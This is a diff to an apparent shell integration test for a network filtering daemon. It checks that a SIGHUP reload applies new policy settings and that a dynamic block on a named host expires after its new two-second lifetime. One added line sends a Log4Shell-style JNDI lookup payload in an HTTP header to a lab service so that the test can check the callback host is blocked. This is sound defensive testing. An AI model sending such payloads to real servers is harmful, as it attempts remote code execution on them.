@@ -439,12 +439,32 @@ for a in $DNS_IP $ATT_IP; do
 done
 
 # ---- SIGHUP: a good policy, then a bad one ------------------------------------------------------------------
-sed -i 's/domain: \[allowed.test, attacker.test\]/domain: [allowed.test, attacker.test, denied.test]/' "$W/policy.yaml"
+# The new policy allows denied.test too, and changes both settings: a full queue now drops, and a
+# host named by an attempt is refused for 2 s instead of 10 min.
+cp "$W/policy.yaml" "$W/first.yaml"
+sed -i 's/domain: \[allowed.test, attacker.test\]/domain: [allowed.test, attacker.test, denied.test]/; s/ttl: 10m/ttl: 2s/' "$W/policy.yaml"
+echo "on_failure: fail-closed" >>"$W/policy.yaml"
 kill -HUP $PW_PID
-check "SIGHUP reloads a good policy" wait_until 30 grep -q "SIGHUP: .*reloaded, 5 rules" "$W/inline.err"
+check "SIGHUP reloads a good policy, its settings too" wait_until 30 grep -q \
+    "SIGHUP: .*reloaded, 5 rules; decided flows keep their verdicts; on_failure now fail-closed; dynamic_block.ttl now 2 s" \
+    "$W/inline.err"
 m=$(mark)
 check "after the reload, curl https://denied.test succeeds" $ix curl -sk --max-time 5 -o /dev/null https://denied.test/
 row "reload: denied.test allowed" "$m" $I id.resp_h=$WEB_IP id.resp_p=443 $OUT app=ssl domain=denied.test \
+    process=$CURL rule=web-curl action=allow "reason=identified; first matching rule (line 5)"
+# The reloaded dynamic_block.ttl: an attempt naming denied.test refuses it for 2 s, then no more.
+$nx curl -s --max-time 5 -o /dev/null -H 'X-Api-Version: ${jndi:ldap://denied.test:443/x}' http://$I_IP:8080/
+sleep 0.3
+m=$(mark)
+check "an attempt naming denied.test: the callback to it is refused" \
+    bash -c "! $ix curl -sk --max-time 5 --resolve denied.test:443:$WEB_IP -o /dev/null https://denied.test/"
+row "reload: callback to denied.test blocked" "$m" $I id.resp_h=$WEB_IP id.resp_p=443 $OUT app=ssl domain=denied.test \
+    process=$CURL rule=dynamic_block action=deny "reason=identified; callback target of a JNDI lookup attempt: denied.test"
+sleep 2.5
+m=$(mark)
+check "  2.5 s later (ttl 2s), it passes again" \
+    $ix curl -sk --max-time 5 --resolve denied.test:443:$WEB_IP -o /dev/null https://denied.test/
+row "reload: callback block expired" "$m" $I id.resp_h=$WEB_IP id.resp_p=443 $OUT app=ssl domain=denied.test \
     process=$CURL rule=web-curl action=allow "reason=identified; first matching rule (line 5)"
 cp "$W/policy.yaml" "$W/good.yaml"
 sed -i '6a\  - { name: broken, action: allow, application: http }' "$W/policy.yaml"
@@ -459,7 +479,7 @@ m=$(mark)
 check "the old policy stays: denied.test still allowed" $ix curl -sk --max-time 5 -o /dev/null https://denied.test/
 row "bad reload: old policy kept" "$m" $I id.resp_h=$WEB_IP id.resp_p=443 $OUT app=ssl domain=denied.test \
     process=$CURL rule=web-curl action=allow "reason=identified; first matching rule (line 5)"
-cp "$W/good.yaml" "$W/policy.yaml"
+cp "$W/first.yaml" "$W/policy.yaml"
 
 # ---- SIGTERM: a clean stop ---------------------------------------------------------------------------------------
 kill -TERM $PW_PID
